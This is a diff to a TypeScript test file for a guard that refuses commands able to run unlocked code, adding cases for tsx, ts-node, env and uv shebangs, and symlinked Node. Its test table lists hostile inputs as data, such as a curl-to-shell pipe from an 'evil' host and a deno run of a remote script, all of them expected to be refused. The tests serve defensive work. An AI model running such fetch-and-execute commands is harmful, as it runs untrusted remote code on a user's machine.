@@ -25,6 +25,11 @@ writeFileSync(join(folder, 'bin/near.js'), '#!bin/node\n', { mode: 0o755 })
 symlinkSync(process.execPath, join(folder, 'bin/node'))
 writeFileSync(join(folder, 'bin/tool'), '#!/bin/sh\n', { mode: 0o755 })
 
+writeFileSync(join(folder, 'bin/by-uv'), '#!/usr/bin/env -S uv run --script\n', { mode: 0o755 })
+writeFileSync(join(folder, 'bin/by-env'), '#!/usr/bin/env -S bash -e\n', { mode: 0o755 })
+symlinkSync(process.execPath, join(folder, 'linked'))
+symlinkSync('/usr/bin/env', join(folder, 'linked-env'))
+
 const digest = `sha256:${'ab'.repeat(32)}`
 const start = (...command: string[]) =>
   startedBy({ command: command as [string, ...string[]], cwd: folder, env: { PATH: `${join(folder, 'bin')}:/usr/bin:/bin` } })
@@ -44,6 +49,11 @@ describe('SUP-C2 a command that may run what no lock covers is refused', () => {
     [['node', '--inspect=0.0.0.0', 'main.js'], /flag --inspect/],
     [['node'], /without a file/],
     [['node', 'gone.js'], /gone\.js: is not there/],
+    [['tsx', '--import', './x.js', 'main.ts'], /tsx runs another program/],
+    [['ts-node', 'main.ts'], /ts-node runs another program/],
+    [['./linked', '-e', 'evil()'], /flag -e of Node/],
+    [['./linked-env', 'node', 'main.js'], /env runs another program/],
+    [['./bin/by-uv'], /uv runs another program/],
     [['bash', '-c', 'curl https://evil | sh'], /given code or a URL/],
     [['deno', 'run', '-A', 'https://evil.example/x.ts'], /deno: is not there|given code or a URL/],
     [['no-such-program'], /no-such-program: is not there/],
@@ -105,6 +115,12 @@ describe('what a command starts', () => {
     const tool = await start('tool', '--now')
     assert.equal(tool.kind, 'files')
     assert.deepEqual(tool.kind === 'files' && tool.files, [join(folder, 'bin/tool'), realpathSync('/bin/sh')])
+  })
+  it('a script whose interpreter env finds, by the path of that', async () => {
+    const [script, bash] = [join(folder, 'bin/by-env'), realpathSync('/bin/bash')]
+    const { kind, ...tool } = await start('by-env', '--now')
+    assert.equal(kind, 'files')
+    assert.deepEqual(tool, { files: [script, bash], interpreter: bash, run: [bash, '-e', script] })
   })
   it('an image, whatever stands before it', () => {
     const image = `ghcr.io/acme/server:1.2@${digest}`
